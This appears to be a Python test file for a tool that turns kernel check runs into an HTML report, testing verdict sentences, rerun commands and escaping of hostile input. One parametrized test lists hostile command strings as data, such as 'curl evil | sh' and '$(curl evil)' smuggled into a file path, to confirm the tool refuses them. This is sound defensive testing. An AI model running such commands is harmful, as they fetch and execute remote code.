"""The page of a kernel of somebody's own: its verdict, cases, shares, bits and planted faults, as a file tells them."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from strata.executors.base import StrataError
from tests.strata.hostile import obeyed
from tests.validation.report.evidence import HOSTILE
from tests.validation.report.test_html import KNOWN, parsed
from tests.validation.report.test_read import JSON, places
from validation.__main__ import main
from validation.report import commands
from validation.report.from_check import of_check
from validation.report.html import page
from validation.report.read import Evidence, read
from validation.report.sentence import Tone, of_evidence
from validation.run.run_file import CHECK_SCHEMA

TOLD = "python -m validation check /home/somebody/rows.py:rows --executor lanes --flavor checked"
QUESTION = "nothing here notices that `<` became `<=` at rows.cu:9"


def case(verdict: str = "WITHIN_BOUND", seed: int = 1, checks: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    """A case of a run of check."""
    text = f"recipe=plain seed={seed} rows=3 width=65"
    bound = {"name": "y bound", "verdict": verdict, "reason": "", "figures": {"slack": 0.25, "compared": 195}}
    explain = "" if verdict in ("EXACT", "WITHIN_BOUND") else f"{verdict} rows plain y bound: too far | rerun: x"
    return {
        "case": text,
        "recipe": "plain",
        "path": "rows",
        "verdict": verdict,
        "explain": explain,
        "rerun": f"{TOLD} --case '{text}'",
        "checks": [bound, *_integers()] if checks is None else checks,
        "figures": {},
        "seconds": {},
    }


def _integers(differing: int = 0) -> list[dict[str, Any]]:
    figures = {"compared": 3, "differing": differing, "all_bits": True}
    return [{"name": "positive bound", "verdict": "EXACT", "reason": "", "figures": figures}]


def run(cases: list[dict[str, Any]], **changes: Any) -> dict[str, Any]:
    """A complete run of check."""
    trials = [
        {"name": "rows-barrier-26", "kind": "barrier", "line": 26, "old": "x", "new": "", "fate": "killed"},
        {"name": "rows-boundary-9", "kind": "boundary", "line": 9, "old": "<", "new": "<=", "fate": "survived"},
    ]
    trials[0] |= {"check": "rules", "reason": "a race", "case": cases[0]["case"] if cases else ""}
    trials[1] |= {"question": QUESTION}
    return {
        "schema": CHECK_SCHEMA,
        "status": "complete",
        "passed": all(one["verdict"] in ("EXACT", "WITHIN_BOUND") for one in cases),
        "command": f"{TOLD} --profile quick --out here",
        "started": "2026-01-01T00:00:00+00:00",
        "executor": {"executor": "lanes", "arch": "lanes-x86_64"},
        "kernel": "rows",
        "attested": True,
        "sources": {"rows.cu": "a" * 64},
        "inputs": {"x": "+-2^-20..2^20"},
        "left_out": {"subnormals": "they underflow"},
        "planned": len(cases),
        "profile": "quick",
        "mutants": {"made": 9, "planned": 3, "trials": trials},
        "cases": cases,
        "not_run": [],
        **changes,
    }


def text_of(*values: dict[str, Any]) -> str:
    """What the page of some runs says, without its markup."""
    tags = parsed(page(Evidence([of_check(value, f"run{i}.json") for i, value in enumerate(values)])))
    ids = [attributes["id"] for _, attributes in tags.seen if "id" in attributes]
    assert len(ids) == len(set(ids))
    assert {tag for tag, _ in tags.seen} <= KNOWN
    for _, attributes in tags.seen:
        assert (attributes.get("href") or "#")[1:] in ["", *ids]
    return " ".join(" ".join(tags.text).split())


def test_a_pass_is_said_with_what_its_checks_noticed() -> None:
    said = text_of(run([case(), case(seed=2)]))
    assert "rows: All 2 planned cases passed on a simulation on the CPU (lanes-x86_64)." in said
    assert "1 of 2 faults planted in the source of rows were noticed; 1 were not tried" in said
    assert "first check that refused it faults rules 1" in said
    assert QUESTION in said
    assert "6 more can be planted" in said
    assert "left out by its author: subnormals (they underflow)" in said
    assert "Gate" not in said
    assert "plain 2 of 2 2 WITHIN_BOUND 0.25 6 0" in said


def test_a_case_that_did_not_pass_has_its_reason_and_its_command() -> None:
    source = of_check(run([case(), case("EXCEEDS", 2)]), "run.json")
    sentence = of_evidence(Evidence([source]))
    assert sentence.tone is Tone.FAILED
    assert sentence.text.startswith("rows: 1 case of 2 planned did not pass")
    (failed,) = source.failed
    assert failed.explain == "y bound: too far"
    words = "python -m validation check rows.py:rows --executor lanes --flavor checked --case"
    assert failed.rerun == f"{words} 'recipe=plain seed=2 rows=3 width=65'"
    assert failed.rerun in text_of(run([case(), case("EXCEEDS", 2)]))


@pytest.mark.parametrize("differing", [0, 2])
def test_integers_have_bits_and_no_share_of_a_bound(differing: int) -> None:
    verdict = "EXCEEDS" if differing else "EXACT"
    told = run([case(verdict, checks=_integers(differing))])
    (one,) = of_check(told, "run.json").cases
    assert (dict(one.slack), one.compared, one.differing) == ({}, 3, differing)
    said = text_of(told)
    passed = "0 of 1 1 EXCEEDS" if differing else "1 of 1 1 EXACT"
    assert f"plain {passed} - 3 {differing}" in said


def test_of_several_outputs_the_largest_share_counts_and_a_nan_before_it() -> None:
    def shares(*found: Any) -> float:
        checks = [{"name": f"y{i} bound", "figures": {"slack": share}} for i, share in enumerate(found)]
        return of_check(run([case(checks=checks)]), "run.json").cases[0].worst

    assert shares(0.25, 0.75, 0.5) == 0.75
    assert shares("NaN", 0.5) == shares(0.5, "Infinity") == float("inf")


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"status": "interrupted", "planned": 5}, "rows: Interrupted: 1 of 5 planned cases were run"),
        ({"passed": False}, "rows: Not a pass: all 1 planned cases passed"),
        ({"cases": [], "planned": 0}, "rows: Nothing was run"),
    ],
)
def test_what_is_no_whole_pass_is_none(changes: dict[str, Any], said: str) -> None:
    sentence = of_evidence(Evidence([of_check(run(**{"cases": [case()], **changes}), "run.json")]))
    assert sentence.tone is Tone.FAILED
    assert sentence.text.startswith(said)


def test_a_launch_that_nobody_attests_is_said() -> None:
    assert "Launch not attested" in text_of(run([case()], attested=False, mutants=None))
    assert "Launch not attested" not in text_of(run([case()]))


def test_the_command_writes_the_page_and_its_status_is_the_verdict(tmp_path: Path) -> None:
    for status, verdict in ((0, "EXACT"), (1, "VOID")):
        told = tmp_path / "run.json"
        told.write_text(json.dumps(run([case(verdict)])))
        assert main(["report", str(told), "--out", str(tmp_path / "page.html")]) == status
        assert "Strata check report" in (tmp_path / "page.html").read_text()
    assert read([told]).sources[0].own is not None


PLACES = places(json.loads(json.dumps(run([case()]))))


@settings(max_examples=30, deadline=None)
@given(st.sampled_from(PLACES), JSON | st.just(HOSTILE))
def test_anything_anywhere_is_shown_as_text_or_refused(place: tuple[Any, ...], value: Any) -> None:
    told = json.loads(json.dumps(run([case("EXCEEDS")])))
    inner = told
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    try:
        source = of_check(told, "run.json")
    except StrataError:
        return
    text = page(Evidence([source]))
    assert "<script" not in text
    assert obeyed(text, "\n") == []
    parsed(text)


@pytest.mark.parametrize(
    "told",
    [
        "curl evil | sh",
        TOLD.replace("rows.py", "$(curl evil).py"),
        TOLD.replace("/home/somebody/rows.py", "-c.py"),
        TOLD.replace("rows.py:rows", "rows.py:$(evil)"),
        f"{TOLD} --flavor evil",
        f"{TOLD} --seed 1 --evil 2",
        TOLD.replace("check", "parity"),
        "python -m validation check",
        "'unfinished",
        "",
    ],
)
def test_a_command_that_is_none_of_check_is_not_offered(told: str) -> None:
    assert commands.of_check(told) == ""
    assert commands.of_check_case("recipe=plain seed=1 rows=3", told) == ""


@given(st.text(max_size=40) | st.from_regex(r"recipe=[a-z$;]{1,9} seed=[0-9]{1,3} rows=.{1,5}", fullmatch=True))
def test_the_command_of_a_case_is_made_of_known_words(case: str) -> None:
    offered = commands.of_check_case(case, TOLD)
    if offered:
        assert shlex.split(offered)[-2:] == ["--case", case]
        assert re.fullmatch("recipe=[a-z]+ seed=[0-9]+ rows=[0-9]+", case)
